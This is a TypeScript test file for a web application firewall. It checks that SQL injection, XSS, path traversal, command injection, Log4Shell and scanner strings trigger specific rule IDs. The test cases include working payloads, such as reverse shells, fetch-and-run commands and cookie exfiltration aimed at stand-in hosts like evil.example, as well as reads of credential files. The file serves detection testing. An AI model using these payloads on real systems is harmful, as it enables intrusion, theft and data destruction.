// Attack strings every built-in group must catch, each with the rule expected to fire. Values are
// given as the engine receives them (a query value is already URL-decoded once), so an entry with
// `%27` is a double-encoded payload. Each must reach the default threshold (5) unless marked.
import { test } from 'node:test'
import assert from 'node:assert/strict'
import { WafEngine } from './engine.js'
import { RULE_GROUPS, type Target } from './rule.js'
import { Scan } from './signatures.js'

const engine = new WafEngine({ groups: RULE_GROUPS, exclude: [], maxValueLength: 4096, maxParameters: 256, customMaxLength: 8192, headers: [], custom: [] })

function scan(value: string, target: Target = 'args'): Scan {
  const result = new Scan()
  if (target === 'rawPath' || target === 'rawQuery') engine.scanRaw(value, target, result, 'test')
  else engine.scanValue(value, target, [], result, 'test')
  return result
}

type Case = readonly [value: string, rule: number, target?: Target]

function check(group: string, cases: readonly Case[], options: { belowThreshold?: boolean } = {}): void {
  test(`${group}: ${cases.length} attack strings match`, () => {
    for (const [value, rule, target] of cases) {
      const result = scan(value, target)
      const ids = result.hits.map((hit) => hit.id)
      assert.ok(ids.includes(rule), `${JSON.stringify(value)} should match ${rule}, matched [${ids.join(', ')}]`)
      if (options.belowThreshold === true) assert.ok(result.score < 5, `${JSON.stringify(value)} should stay below 5, scored ${result.score}`)
      else assert.ok(result.score >= 5, `${JSON.stringify(value)} should reach 5, scored ${result.score}`)
    }
  })
}

check('sqli', [
  ["' or 1=1", 942100],
  ["' OR 1=1 --", 942100],
  ['" or ""="', 942100],
  ["admin' or 'a'='a", 942100],
  ["') or ('1'='1", 942100],
  ["1' || '1'='1", 942100],
  ["x'/**/OR/**/1=1", 942100],
  ["'or'1'='1", 942100],
  ["' or username like '%admin%", 942100],
  ["' or true--", 942110],
  ['" or 1 #', 942110],
  ["' and 0", 942110],
  ['1 or 1=1', 942120],
  ['1) and (2=2', 942120],
  ['-1 OR 2=2', 942120],
  ['abc or 1=1', 942120],
  ["admin'--", 942130],
  ["admin')#", 942130],
  ["1'-- -", 942130],
  ['1 UNION SELECT username, password FROM users', 942150],
  ['1 union all select null,null', 942150],
  ['1/**/UNION/**/SELECT/**/1,2', 942150],
  ['1 /*!50000UNION*/ /*!50000SELECT*/ 1,2', 942150],
  ['1\nunion\tselect 1', 942150],
  ['-1 union(select 1)', 942150],
  ["1' AND SLEEP(5)-- ", 942160],
  ['1 and sleep(if(1=1,5,0))', 942160],
  ["1; WAITFOR DELAY '0:0:5'--", 942160],
  ['1 and benchmark(5000000,md5(1))', 942160],
  ["'; select pg_sleep(10)--", 942160],
  ['1 and 1=(select count(*) from information_schema.tables)', 942170],
  ['select name from sqlite_master', 942170],
  ['1 and extractvalue(1,concat(0x7e,version()))', 942180],
  ['1 and updatexml(1,concat(0x7e,(select user())),1)', 942180],
  ["1'; exec xp_cmdshell('dir')--", 942180],
  ['1 and @@version>5', 942180],
  ["'; drop table users; --", 942190],
  ['1; DELETE FROM orders', 942190],
  ["x'; insert into admins values ('eve')--", 942190],
  ['1; shutdown --', 942190],
  ["1; update users set role='admin'", 942190],
  ['select * from users', 942200],
  ['select group_concat(password) from users', 942200],
  ['1 order by 10--', 942220],
  ["1 union select '<?php system($_GET[c]) ?>' into outfile '/var/www/x.php'", 942230],
  ['%27%20or%201%3D1', 942100], // double-encoded (the query decoding removed one layer)
  ['%2527%2520or%25201%253D1', 942100], // triple-encoded
])

check('sqli warnings', [
  ["it was 'fine' -- honestly", 942140],
  ['name=0x61646d696e', 942210],
], { belowThreshold: true })

check('xss', [
  ['<script>alert(1)</script>', 941100],
  ['<SCRIPT SRC=//evil.example/x.js></SCRIPT>', 941100],
  ['"><script>document.location="//evil"</script>', 941100],
  ['<img src=x onerror=alert(1)>', 941110],
  ['<img/src=x/onerror=alert(1)>', 941110],
  ['<body onload=alert(document.domain)>', 941110],
  ['" onmouseover="alert(1)', 941110],
  ["' autofocus onfocus='alert(1)", 941110],
  ['<details open ontoggle=alert(1)>', 941110],
  ['javascript:alert(1)', 941120],
  ['JaVaScRiPt:alert(document.cookie)', 941120],
  ['java\tscript:alert(1)', 941120],
  ['javascript://%0aalert(1)', 941120],
  ['&#x6a;avascript&#x3a;alert(1)', 941120],
  ['&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)', 941120],
  ['data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==', 941120],
  ['<iframe src="//evil.example"></iframe>', 941130],
  ['<svg/onload=alert(1)>', 941130],
  ['<svg><animate onbegin=alert(1) attributeName=x>', 941130],
  ['<object data="javascript:alert(1)">', 941130],
  ['<embed src=//evil.example/x.swf>', 941130],
  ['<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', 941130],
  ['new Image().src="//evil/?c="+document.cookie', 941140],
  ['document.write("<img src=//evil>")', 941140],
  ['x.innerHTML = location.hash', 941140],
  ['String.fromCharCode(88,83,83)', 941140],
  ['eval(atob("YWxlcnQoMSk="))', 941150],
  ["setTimeout('alert(1)')", 941150],
  ['&lt;script&gt;alert(1)&lt;/script&gt;', 941100],
  ['&amp;lt;script&amp;gt;alert(1)', 941100],
  ['&ltscript&gtalert(1)', 941100],
  ['%3Cscript%3Ealert(1)%3C/script%3E', 941100], // double-encoded
  ['%253Csvg%2520onload%253Dalert(1)%253E', 941130], // triple-encoded
  ['<div style="width: expression(alert(1))">', 941170],
  ['<iframe srcdoc="<script>alert(1)</script>">', 941170],
])

check('xss warnings', [
  ['alert(1)', 941160],
  ['prompt`1`', 941160],
  ["confirm('x')", 941160],
], { belowThreshold: true })

check('traversal', [
  ['../../../../etc/passwd', 930110],
  ['..\\..\\..\\windows\\win.ini', 930110],
  ['....//....//....//etc/hosts', 930110],
  ['%2e%2e%2f%2e%2e%2fetc%2fpasswd', 930110], // double-encoded
  ['%252e%252e%252f%252e%252e%252f', 930110], // triple-encoded
  ['/etc/passwd', 930120],
  ['/etc/shadow', 930120],
  ['file=/proc/self/environ', 930120],
  ['C:\\Windows\\System32\\drivers\\etc\\hosts', 930120],
  ['c:/windows/win.ini', 930120],
  ['/home/alice/.ssh/id_rsa', 930120],
  ['file:///etc/passwd', 930140],
  ['php://filter/convert.base64-encode/resource=index.php', 930140],
  ['phar://uploads/avatar.jpg', 930140],
  ['gopher://127.0.0.1:6379/_flushall', 930140],
  ['../../etc/passwd%00.png', 930150],
  ['/a/..%2f..%2fetc/passwd', 930100, 'rawPath'],
  ['/static/../../etc/passwd', 930100, 'rawPath'],
  ['/%2e%2e/%2e%2e/etc/passwd', 930100, 'rawPath'],
  ['/%252e%252e/admin', 930100, 'rawPath'],
  ['/..;/manager/html', 930100, 'rawPath'],
  ['/files/..%5c..%5cwindows', 930100, 'rawPath'],
  ['/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd', 930100, 'rawPath'],
  ['/.env', 930130, 'path'],
  ['/app/.git/config', 930130, 'path'],
  ['/.htaccess', 930130, 'path'],
  ['/wp-config.php', 930130, 'path'],
  ['/web.config', 930130, 'path'],
])

check('traversal warnings', [
  ['../config', 930115],
  ['dir=..\\secrets', 930115],
  ['https://example.com/a/b/../c', 930115], // one level inside a URL: worth a note, not a block
], { belowThreshold: true })

check('rce', [
  ['; cat /etc/passwd', 932100],
  ['127.0.0.1; cat /etc/passwd', 932100],
  ['127.0.0.1 && whoami', 932100],
  ['x | nc 10.0.0.1 4444', 932100],
  ['x | nc -e /bin/sh 10.0.0.1 4444', 932100],
  ['; wget http://evil.example/x.sh', 932100],
  ['|curl -s evil.example/x|sh', 932100],
  ['8.8.8.8\nid', 932100],
  ['; id', 932100],
  ['1;uname -a', 932100],
  ['; rm -rf /', 932100],
  ['; bash -i >& /dev/tcp/10.0.0.1/8080 0>&1', 932100],
  ['; python -c "import os"', 932100],
  ['; ping -c 10 127.0.0.1', 932100],
  ['; sleep 10', 932100],
  ['; ls -la', 932100],
  [';ls /', 932100],
  ['x && ls ../', 932100],
  ['\nls', 932100],
  ['1 | id -u', 932100],
  ['| whoami', 932100],
  ['127.0.0.1 | uname -a', 932100],
  ['& cat /etc/passwd', 932100],
  ['|| curl evil.example/x', 932100],
  ['&& wget http://evil.example/x.sh', 932100],
  ['| nc evil.example 4444', 932100],
  ['; bash', 932100],
  ['| sh', 932100],
  ['; python exploit.py', 932100],
  ['| perl -e "print 1"', 932100],
  ['& ping -n 5 127.0.0.1', 932100],
  ['| id', 932105],
  ['|id', 932105],
  ['127.0.0.1|id', 932105],
  ['&& id', 932105],
  ['|| id', 932105],
  ['& id', 932105],
  ['1&id #', 932105],
  ['| ls', 932105],
  ['x && ls > /tmp/out', 932105],
  ['& cmd /c dir', 932110],
  ['| powershell -enc SQBFAFgA', 932110],
  ['& net user hacker P@ss /add', 932110],
  ['`id`', 932120],
  ['`ls`', 932120],
  ['$(ls)', 932120],
  ['$(id)', 932120],
  ['`cat /etc/passwd`', 932120],
  ['$(whoami)', 932120],
  ['$(curl evil.example)', 932120],
  ['cat${IFS}/etc/passwd', 932120],
  ['/bin/sh', 932130],
  ['/bin/bash -c id', 932130],
  ['exec 5<>/dev/tcp/evil/80', 932130],
  ['() { :; }; /bin/cat /etc/passwd', 932140, 'userAgent'],
  ['() { :;}; echo vulnerable', 932140],
  ['<?php system($_GET["c"]); ?>', 933100],
  ['<?=`id`?>', 933100],
  ["system('id')", 933100],
  ['shell_exec("ls")', 933100],
  ['phpinfo()', 933100],
  ['eval(base64_decode("ZWNobyAx"))', 933100],
  ['__proto__[isAdmin]', 934100],
  ['constructor[prototype][isAdmin]', 934100],
  ['constructor.prototype.polluted', 934100],
  ["require('child_process').exec('id')", 934100],
  ["{{''.__class__.__mro__[1].__subclasses__()}}", 934110],
  ["{{config.__class__.__init__.__globals__['os']}}", 934110],
  ['${jndi:ldap://evil.example/a}', 944100],
  ['${jndi:rmi://evil.example:1099/x}', 944100],
  ['${${lower:j}ndi:${lower:l}dap://evil/a}', 944100],
  ['${${::-j}${::-n}${::-d}${::-i}:ldap://evil/a}', 944100],
  ['${${env:NaN:-j}ndi${env:NaN:-:}ldap://evil/a}', 944100],
  ['Mozilla/5.0 ${jndi:ldap://evil.example/ua}', 944100, 'userAgent'],
  ['%24%7Bjndi%3Aldap%3A%2F%2Fevil%2Fa%7D', 944100], // double-encoded
  ['T(java.lang.Runtime).getRuntime().exec("id")', 944110],
  ["%{(#_memberAccess['allowStaticMethodAccess']=true)}", 944110],
  ['new java.lang.ProcessBuilder("id").start()', 944110],
])

check('rce warnings', [
  ['{{7*7}}', 934120],
  ['${7*7}', 934120],
], { belowThreshold: true })

check('scanners', [
  ['sqlmap/1.7.2#stable (https://sqlmap.org)', 913100, 'userAgent'],
  ['Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)', 913100, 'userAgent'],
  ['Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)', 913100, 'userAgent'],
  ['masscan/1.3 (https://github.com/robertdavidgraham/masscan)', 913100, 'userAgent'],
  ['Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0 Safari/537.36 Nuclei', 913100, 'userAgent'],
  ['Nuclei - Open-source project (github.com/projectdiscovery/nuclei)', 913100, 'userAgent'],
  ['WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)', 913100, 'userAgent'],
  ['DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)', 913100, 'userAgent'],
  ['gobuster/3.6', 913100, 'userAgent'],
  ['Fuzz Faster U Fool v2.1.0 ffuf', 913100, 'userAgent'],
  ['Mozilla/5.0 (compatible; Acunetix-WVS)', 913100, 'userAgent'],
  ['Wfuzz/3.1.0', 913100, 'userAgent'],
  ['Mozilla/5.0 (X11; Linux) OWASP ZAP 2.14', 913100, 'userAgent'],
  ['Mozilla/4.0 (compatible; Netsparker)', 913100, 'userAgent'],
  ['WhatWeb/0.5.5', 913100, 'userAgent'],
])

check('protocol', [
  ['abc\u0000def', 920270],
  ['report.pdf%00', 920270], // the query decoding left %00, decoded once more
  ['%2500', 920270],
])

check('protocol warnings', [
  ['q=100%', 920220, 'rawQuery'],
  ['a=%zz&b=%', 920220, 'rawQuery'],
], { belowThreshold: true })
